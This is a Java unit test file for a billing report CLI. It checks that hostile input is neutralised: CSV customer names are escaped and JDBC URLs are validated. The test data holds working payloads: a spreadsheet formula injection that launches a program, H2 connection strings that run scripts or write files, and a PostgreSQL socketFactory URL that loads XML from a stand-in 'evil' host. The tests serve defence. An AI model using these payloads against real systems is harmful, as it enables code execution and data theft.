package dev.ratel.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

/** Text an attacker or a careless export can put into reference data and command lines, through the CLI. */
class HostileTextTest {
    private static final String TARIFFS = "../samples/tariffs";
    private static final java.time.Clock END_OF_2024 = java.time.Clock.fixed(java.time.Instant.parse("2024-12-31T12:00:00Z"),
            java.time.ZoneOffset.UTC);

    @TempDir
    Path dir;

    private final StringWriter out = new StringWriter();
    private final StringWriter err = new StringWriter();

    private int run(String... args) {
        CommandLine line = RatelCommand.commandLine(END_OF_2024);
        line.setOut(new PrintWriter(out, true));
        line.setErr(new PrintWriter(err, true));
        return line.execute(args);
    }

    private Path reference() throws IOException {
        Path reference = Files.createDirectories(dir.resolve("reference"));
        Files.writeString(reference.resolve("accounts.csv"), "account_id,customer_name,tax_id,plan_id,payment_method,opened_on\n"
                + "A1,=cmd|'/C calc'!A0,7700000001,prostoy-prosto,CREDIT,2024-01-01\n"
                + "A2,\" =4+4\",7700000002,prostoy-prosto,CREDIT,2024-01-01\n"
                + "A3,ООО «Ромашка»,7700000003,prostoy-prosto,CREDIT,2024-01-01\n");
        Files.writeString(reference.resolve("numbers.csv"), "number,account_id,kind,active_from,active_to\n"
                + "74951000001,A1,SIP,2024-01-01,\n"
                + "74951000002,A2,SIP,2024-01-01,\n"
                + "74951000003,A3,SIP,2024-01-01,\n");
        return reference;
    }

    @Test
    void shouldWriteACustomerNameThatIsAFormulaAsTextInTheNumbersReport() throws IOException {
        Path report = dir.resolve("numbers.csv");
        assertThat(numbersReport()).isEqualTo(ExitCodes.OK);
        assertThat(Files.readAllLines(report)).containsExactly(
                "number,account_id,customer_name,plan_id,kind,status,payment_method,balance,currency",
                "74951000001,A1,'=cmd|'/C calc'!A0,prostoy-prosto,SIP,ACTIVE,CREDIT,0.00,RUB",
                "74951000002,A2,'=4+4,prostoy-prosto,SIP,ACTIVE,CREDIT,0.00,RUB",
                "74951000003,A3,ООО «Ромашка»,prostoy-prosto,SIP,ACTIVE,CREDIT,0.00,RUB");
    }

    @Test
    void shouldRefuseAJdbcUrlThatRunsAScriptAndNeverRunIt() throws IOException {
        Path stolen = dir.resolve("stolen.sql");
        Path evil = Files.writeString(dir.resolve("evil.sql"), "SCRIPT TO '" + stolen + "';\n");
        String url = "jdbc:h2:mem:x;PASSWORD=s3cret;INIT=RUNSCRIPT FROM '" + evil + "'";
        assertThat(numbersReport("--jdbc-url", url)).isEqualTo(ExitCodes.BAD_CONFIGURATION);
        assertThat(stolen).doesNotExist();
        assertThat(err.toString()).contains("the setting 'INIT' is not accepted").contains("PASSWORD=***").doesNotContain("s3cret");
        assertThat(numbersReport("--jdbc-url", "jdbc:h2:mem:x;TRACE_LEVEL_FILE=3")).isEqualTo(ExitCodes.BAD_CONFIGURATION);
        assertThat(err.toString()).contains("the setting 'TRACE_LEVEL_FILE' is not accepted");
        assertThat(numbersReport("--jdbc-url", "jdbc:postgresql://db/ratel?socketFactory=org.springframework.context.support"
                + ".ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml")).isEqualTo(ExitCodes.BAD_CONFIGURATION);
        assertThat(err.toString()).contains("the setting 'socketFactory' is not accepted");
        assertThat(numbersReport("--jdbc-url", "jdbc:mysql://db/ratel")).isEqualTo(ExitCodes.BAD_CONFIGURATION);
        assertThat(err.toString()).contains("a database Ratel does not keep its job repository in");
        // found by review: H2 applies a setting as SET KEY VALUE, so an allowed key with an expression for its value runs it
        Path written = dir.resolve("written.txt");
        assertThat(numbersReport("--jdbc-url", "jdbc:h2:mem:x;LOCK_TIMEOUT=FILE_WRITE(STRINGTOUTF8('x'),'" + written + "')"))
                .isEqualTo(ExitCodes.BAD_CONFIGURATION);
        assertThat(written).doesNotExist();
        assertThat(err.toString()).contains("the value of LOCK_TIMEOUT is not accepted; give LOCK_TIMEOUT a whole number of milliseconds");
        // and a database in another of H2's file systems
        assertThat(numbersReport("--jdbc-url", "jdbc:h2:zip:" + dir.resolve("x.zip") + "!/db")).isEqualTo(ExitCodes.BAD_CONFIGURATION);
        assertThat(err.toString()).contains("the database 'jdbc:h2:zip:").contains("is not accepted; name an H2 database as mem:NAME");
        assertThat(dir.resolve("numbers.csv")).doesNotExist();
    }

    @Test
    void shouldTakeTheH2FormsTheDocsName() throws IOException {
        for (String url : java.util.List.of("jdbc:h2:mem:jobs;DB_CLOSE_DELAY=-1;MODE=PostgreSQL", "jdbc:h2:file:" + dir.resolve("repo")
                + ";DB_CLOSE_ON_EXIT=FALSE;LOCK_TIMEOUT=10000", "jdbc:h2:" + dir.resolve("plain") + ";AUTO_SERVER=TRUE")) {
            dev.ratel.jobs.batch.JdbcUrls.check(url);
        }
        for (String url : java.util.List.of("jdbc:h2:file:zip:" + dir.resolve("x.zip") + "!/db", "jdbc:h2:tcp://db/split:db",
                "jdbc:h2:mem:x;CACHE_SIZE=1+1", "jdbc:h2:mem:x;MODE=PostgreSQL;DB_CLOSE_DELAY=(SELECT 1)")) {
            org.assertj.core.api.Assertions.assertThatThrownBy(() -> dev.ratel.jobs.batch.JdbcUrls.check(url)).as(url)
                    .hasMessageContaining("is not accepted");
        }
        // a password may hold '/' or '@': all of the user-info is hidden, and refused in the address
        assertThat(dev.ratel.jobs.batch.JdbcUrls.masked("jdbc:postgresql://u:pa/ss@h/db and //u:p@ss@h/db"))
                .isEqualTo("jdbc:postgresql://u:***@h/db and //u:***@h/db");
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> dev.ratel.jobs.batch.JdbcUrls.check("jdbc:postgresql://u:pa/ss@h/db"))
                .hasMessageContaining("a password inside the address").hasMessageNotContaining("pa/ss");
    }

    @Test
    void shouldNeverEchoAPasswordFromAJdbcUrl() throws IOException {
        // nothing listens on port 1: the driver's own failure is the message, the password masked in it
        assertThat(numbersReport("--jdbc-url", "jdbc:postgresql://127.0.0.1:1/ratel?user=ratel&password=s3cret&connectTimeout=2"))
                .isEqualTo(ExitCodes.BAD_CONFIGURATION);
        assertThat(err.toString()).contains("cannot open the job repository at jdbc:postgresql://127.0.0.1:1/ratel?user=ratel&password=***")
                .doesNotContain("s3cret");
        assertThat(numbersReport("--jdbc-url", "jdbc:postgresql://ratel:s3cret@127.0.0.1:1/ratel")).isEqualTo(ExitCodes.BAD_CONFIGURATION);
        assertThat(err.toString()).contains("a password inside the address").doesNotContain("s3cret");
    }

    private int numbersReport(String... options) throws IOException {
        // a read-only report never creates its home: this one is a home where nothing has run yet
        Files.createDirectories(dir.resolve("home"));
        java.util.List<String> args = new java.util.ArrayList<>(java.util.List.of("numbers", "--home", dir.resolve("home").toString(),
                "--at", "2024-06-30", "--tariffs", TARIFFS, "--reference", reference().toString(), "--out", dir.resolve("numbers.csv").toString()));
        args.addAll(java.util.List.of(options));
        return run(args.toArray(new String[0]));
    }

    @Test
    void shouldRefuseExchangeRatesThatAreNotPositiveDecimalsWhenValidating() throws IOException {
        Path reference = reference();
        // the last found by the loader fuzz: its millionths overflowed a long, an ArithmeticException out of the loader
        // (and found by review: stripping the zeros of 100E2147483647 overflowed the scale)
        for (String rate : java.util.List.of("0", "-425.67", "abc", "99999999999999999999", "100E2147483647")) {
            Files.writeString(reference.resolve("exchange-rates.csv"), "date,pair,rate\n2024-01-01,USD/KZT,450.12\n2024-05-01,USD/KZT," + rate + "\n");
            assertThat(run("reference", "validate", "--reference", reference.toString(), "--tariffs", TARIFFS))
                    .as(rate).isEqualTo(ExitCodes.BAD_CONFIGURATION);
        }
        String file = reference.resolve("exchange-rates.csv").toString();
        assertThat(err.toString()).contains(file + ":3: rate '0' must be positive, below 1 000 000 000, with at most 6 decimals",
                file + ":3: rate '-425.67' must be positive, below 1 000 000 000, with at most 6 decimals",
                file + ":3: rate 'abc' is not a decimal such as 425.67",
                file + ":3: rate '99999999999999999999' must be positive, below 1 000 000 000, with at most 6 decimals",
                file + ":3: rate '100E2147483647' must be positive, below 1 000 000 000, with at most 6 decimals");
        Files.writeString(reference.resolve("exchange-rates.csv"), "date,pair,rate\n2024-01-01,USD/KZT,450.12\n");
        assertThat(run("reference", "validate", "--reference", reference.toString(), "--tariffs", TARIFFS)).isEqualTo(ExitCodes.OK);
    }
}
